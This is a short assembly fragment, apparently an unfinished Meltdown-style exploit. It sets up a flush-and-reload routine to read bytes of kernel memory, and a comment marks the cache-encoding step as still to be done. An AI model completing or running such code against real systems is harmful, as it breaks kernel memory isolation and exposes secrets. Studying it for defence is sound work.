    .text
# leak(RDI = address in the kernel) -> RAX = the byte there, or -1
leak:
    mov r12, rdi
    call flush_table
    mov eax, 1000           # the kernel uses its secret
    mov edi, 2
    syscall
    lea rax, [rip + landed]
    mov [rip + landing], rax
    movzx eax, byte ptr [r12]
                            # to be done: what the byte chooses must be in the cache when this faults
landed:
    call reload_table
    ret
